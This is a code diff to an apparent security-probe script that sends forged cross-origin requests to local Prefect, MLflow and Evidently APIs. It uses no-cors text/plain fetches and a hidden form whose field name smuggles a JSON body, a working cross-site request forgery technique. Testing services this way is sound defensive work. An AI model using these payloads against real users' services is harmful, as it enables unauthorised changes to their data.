@@ -30,14 +30,15 @@ CREATE = {
     "reports": "/api/projects",
 }
 READ = {
-    "prefect": "/api/flows/count",
+    "prefect": "/api/admin/version",
     "mlflow": "/api/2.0/mlflow/experiments/get?experiment_id=0",
     "reports": "/api/projects",
 }
-# Prefect takes `description` for an unknown field, MLflow too; Evidently needs it.
+# Evidently's projects need a description, and Prefect refuses fields that it does not know.
 SEND = """
 const [url, name, done] = arguments
-const body = how => JSON.stringify({name: `${name}, ${how}`, description: ''})
+const more = url.includes('/projects') ? {description: ''} : {}
+const body = how => JSON.stringify({name: `${name}, ${how}`, ...more})
 const json = {'Content-Type': 'application/json'}
 const tries = [
   {mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: body('as text')},
@@ -50,7 +51,8 @@ FORM = """
 const [url, name] = arguments
 const form = document.createElement('form'), input = document.createElement('input')
 Object.assign(form, {method: 'POST', enctype: 'text/plain', action: url})
-Object.assign(input, {name: `{"name": "${name}, by a form", "description": "`, value: '"}'})
+// The browser writes an equals sign between the two.
+Object.assign(input, {name: `{"description": "", "name": "${name}, by a form`, value: '"}'})
 form.append(input)
 document.body.append(form)
 form.submit()
